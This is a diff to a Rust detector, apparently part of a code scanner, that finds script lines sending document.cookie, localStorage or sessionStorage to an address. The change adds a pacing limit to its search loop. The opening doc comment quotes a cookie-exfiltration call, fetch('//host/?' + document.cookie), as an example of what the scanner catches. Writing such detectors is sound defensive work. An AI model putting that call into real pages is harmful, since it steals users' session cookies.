@@ -1,6 +1,7 @@
 //! Scripts that send what a browser keeps: `fetch('//host/?' + document.cookie)`.
 
 use crate::finding::Span;
+use crate::pace::Pace;
 
 /// What a browser keeps for a page, and what is read of its own.
 const KEPT: [&[u8]; 3] = [b"document.cookie", b"localStorage", b"sessionStorage"];
@@ -23,9 +24,10 @@ const SENDERS: [&str; 12] = [
 ];
 
 /// Calls `found` with each place where one is sent to an address.
-pub(super) fn find(text: &str, mut found: impl FnMut(Span)) {
+pub(super) fn find(text: &str, pace: &Pace<'_>, mut found: impl FnMut(Span)) {
     for kept in KEPT {
-        for at in memchr::memmem::find_iter(text.as_bytes(), kept) {
+        let places = memchr::memmem::find_iter(text.as_bytes(), kept);
+        for at in places.take_while(|_| pace.step()) {
             let from = text.ceil_char_boundary(at.saturating_sub(BEFORE));
             let line = text[from..at].rsplit('\n').next().unwrap_or_default();
             let sender = SENDERS.iter().filter_map(|sender| line.rfind(sender)).max();
